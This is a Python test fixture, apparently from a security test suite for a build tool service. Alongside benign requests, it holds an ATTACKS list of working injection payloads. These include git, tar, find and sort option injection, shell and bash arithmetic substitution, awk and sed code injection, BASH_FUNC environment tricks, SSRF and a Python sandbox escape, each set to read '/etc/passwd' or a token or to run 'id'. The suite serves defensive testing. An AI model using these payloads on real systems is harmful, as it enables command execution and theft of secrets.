"""A build team's tool room."""

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.seventh import (
    COMPANY,
    EMOJI,
    HTML_TALK,
    LETTER,
    LONG,
    NAMES,
    PYTHON_TALK,
    SHELL_TALK,
    SQL_TALK,
    TEMPLATE_TALK,
    appsync,
    b64,
    bus,
    http,
    rest,
    sqs,
)

TOKEN = "deploy-token-8080"


def _search(words: str) -> dict[str, object]:
    return http("GET", "/search", query={"q": words})


def _merge(title: str, description: str, author: str) -> dict[str, object]:
    request = {"title": title, "description": description, "author": author}
    return http("POST", "/hooks/merge", {"object_kind": "merge_request", "merge_request": request})


def _file(spec: str) -> dict[str, object]:
    return rest("GET", "/files/{proxy+}", ids={"proxy": spec})


def _town(name: str) -> dict[str, object]:
    return http("GET", "/sales/{town}", ids={"town": name})


def _words(*words: str) -> dict[str, object]:
    return appsync("Query", "lines", words=list(words))


def _find(name: str) -> dict[str, object]:
    return http("GET", "/find", query={"name": name})


def _step(**variables: str) -> dict[str, object]:
    return {"step": "build", "variables": variables}


REQUESTS = {
    "code_search": [
        _search("hello"),
        _search("'hello' to O'Brien & co"),
        _search("cake && cream; 4"),
        _search("TODO\\|FIXME"),
    ],
    "code_search_fixed": [
        _search("--help"),
        _search("$(id) `id`; x"),
        _search("O'Brien & co (100%)"),
        _search(SHELL_TALK),
    ],
    "commit_note": [
        _merge('Fix "quotes" && $HOME; don\'t drop', SHELL_TALK, NAMES[0]),
        _merge("feat(api)!: {{ name }} | tee", LETTER + "\n\n" + PYTHON_TALK, NAMES[1]),
        _merge("`rm -rf /` is now refused", LONG, NAMES[2]),
    ],
    "file_at": [_file("HEAD:README.md"), _file("main"), _file("main -- README.md"), _file("no/such:file")],
    "compare": [
        http("POST", "/compare", {"range": "HEAD main"}),
        http("POST", "/compare", {"range": "main feature/o'brien-#7"}),
    ],
    "remote_heads": [
        bus("Connect", {"repository": "https://git.example.org/o'brien/x.git?a=1&b=$x"}),
        bus("Connect", {"repository": "."}),
    ],
    "log_lines": [_words("GET"), _words("-v", "q='x'"), _words("/a;"), _words("$(date)", "|")],
    "log_lines_quick": [_words("GET", "200"), _words("q='x'"), _words("/a;", "500")],
    "sales_of": [_town("Cork"), _town("St. John's"), _town("Baile Átha Cliath"), _town("")],
    "sales_of_variable": [_town("St. John's"), _town('The "Rebel County"; $1'), _town(EMOJI)],
    "letterhead": [
        {"fields": {"name": "O'Brien & Sons", "place": '12/14 Main St; c/o "Bo"'}},
        {"fields": {"name": HTML_TALK, "place": COMPANY}},
        {"fields": {"name": SQL_TALK}},
    ],
    "unpack_members": [
        sqs({"members": ["docs/README.md"]}),
        sqs({"members": ["docs/café menu.txt"]}, {"members": ["docs/README.md", "docs/no such (1).txt"]}),
    ],
    "find_files": [_find("*.md"), _find("caf*"), _find("*('s)*")],
    "sorted_sales": [
        http("GET", "/sales"),
        *(http("GET", "/sales", query={"column": one}) for one in ("2", "2n", "1,1")),
    ],
    "price": [http("POST", "/price", {"quantity": one}) for one in (4, "17", "2 + 3", "")],
    "run_step": [
        _step(TARGET="web; rm -rf build", NOTE=SHELL_TALK),
        _step(TARGET='O\'Brien "x"', NOTE=TEMPLATE_TALK),
        _step(NODE_ENV="production", NOTE="$(id)"),
        _step(),
    ],
    "greet": [
        {"body": b64("\n".join(NAMES))},
        {"body": b64(f"Ke$ha\nthe `new` one\nO'Neil; & 'Bo'\n{EMOJI}")},
    ],
    "slug": [
        {"project": {"name": "O'Brien / Büro (2)"}},
        {"project": {"name": "R&D; new"}},
        {"project": {"name": "茶"}},
    ],
    "ping_partner": [
        {"query": 'q="tea" & mugs; x'},
        {"query": "url=https://example.org/a.txt&x=$HOME"},
        {"query": "n=o'brien"},
    ],
    "calculate": [{"cell": "(3 + 4) * 1.19"}, {"cell": "sum([1, 2.5, 3]) / 3"}, {"cell": "import duty + 3"}],
    "table_of_log": [
        {"csv": b64('b,"O\'Brien; x"\na,$(id)\nb,"O\'Brien; x"\n')},
        {"csv": b64(f'1,"{LETTER}"\n0,`ls`\n')},
    ],
}
ATTACKS = [
    Attack("argument", "code_search", _search("--open-files-in-pager=echo ran-$((6*7));"), "ran-42"),
    Attack("argument", "code_search", _search("-Ocat ../token.txt;"), TOKEN),
    Attack(
        "argument", "compare", http("POST", "/compare", {"range": "--no-index /dev/null ../token.txt"}), TOKEN
    ),
    Attack(
        "argument",
        "compare",
        http("POST", "/compare", {"range": "--no-index -- /dev/null /etc/passwd"}),
        "root:x:0",
    ),
    Attack(
        "argument",
        "remote_heads",
        bus("Connect", {"repository": "--upload-pack=echo ran-$((6*7)) >&2;"}),
        "ran-42",
    ),
    Attack(
        "argument",
        "remote_heads",
        bus("Connect", {"repository": "--upload-pack=cat ../token.txt >&2; git-upload-pack"}),
        TOKEN,
    ),
    Attack("shell", "log_lines_quick", _words("GET", 'x"; id; echo "'), "uid="),
    Attack(
        "shell",
        "log_lines_quick",
        _words("$(id >&2; echo GET)", 'x" /etc/passwd; echo "ran-$((6*7))'),
        "ran-42",
    ),
    Attack("shell", "log_lines_quick", _words('.*" - /etc/passwd "'), "root:x:0"),
    Attack("code, awk", "sales_of", _town('x" { } BEGIN { system("id") } $1 == "'), "uid="),
    Attack(
        "code, awk",
        "sales_of",
        _town('x" { } BEGIN { while ((getline line < "/etc/passwd") > 0) print line } $1 == "'),
        "root:x:0",
    ),
    Attack(
        "code, awk",
        "sales_of",
        _town('x" { } BEGIN { "echo ran-$((6*7))" | getline x; print x } $1 == "'),
        "ran-42",
    ),
    Attack("code, sed", "letterhead", {"fields": {"name": "x\\/\n1e id\n#"}}, "uid="),
    Attack("code, sed", "letterhead", {"fields": {"name": "x\\/\n$r token.txt\n#"}}, TOKEN),
    Attack("code, sed key", "letterhead", {"fields": {"q@//;1e echo ran-$((6*7))\n#": "x"}}, "ran-42"),
    Attack(
        "argument", "unpack_members", sqs({"members": ["docs/README.md", "--files-from=token.txt"]}), TOKEN
    ),
    Attack(
        "argument",
        "unpack_members",
        sqs({"members": ["docs/README.md", "--checkpoint=1", "--checkpoint-action=exec=id"]}),
        "uid=",
    ),
    Attack("argument", "find_files", _find("*.md -exec cat token.txt ;"), TOKEN),
    Attack("argument", "find_files", _find("*.md -exec id ;"), "uid="),
    Attack("argument", "sorted_sales", http("GET", "/sales", query={"column": "1 token.txt"}), TOKEN),
    Attack("argument", "sorted_sales", http("GET", "/sales", query={"column": "1 /etc/passwd"}), "root:x:0"),
    Attack("shell, arithmetic", "price", http("POST", "/price", {"quantity": "a[$(id >&2)]"}), "uid="),
    Attack(
        "shell, arithmetic",
        "price",
        http("POST", "/price", {"quantity": "x[$(cat token.txt >&2)0] + 1"}),
        TOKEN,
    ),
    Attack("environment", "run_step", _step(**{"BASH_FUNC_printf%%": "() { id; }"}), "uid="),
    Attack("environment", "run_step", _step(BASH_ENV="$(cat token.txt >&2)"), TOKEN),
    Attack("environment", "run_step", _step(**{"BASH_FUNC_echo%%": "() { cat token.txt; }"}), TOKEN),
    Attack("shell", "slug", {"project": {"name": "X$(id>&2)"}}, "uid="),
    Attack("shell, without blanks", "slug", {"project": {"name": "x`cat<token.txt>&2`"}}, TOKEN),
    Attack("argument, config", "ping_partner", {"query": "x=1\nurl=file:///etc/passwd"}, "root:x:0"),
    Attack(
        "SSRF, config",
        "ping_partner",
        {"query": "x=1\nurl=@INSIDE@/internal\nheader=X-A:1"},
        "internal-token-4711",
    ),
    Attack(
        "code, python",
        "calculate",
        {"cell": "0,2) or (__builtins__.__dict__['op'+'en']('token.txt').read()"},
        TOKEN,
    ),
    Attack(
        "code, python",
        "calculate",
        {
            "cell": "0,2) or ([c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['po' + 'pen']('id').read()"
        },
        "uid=",
    ),
]
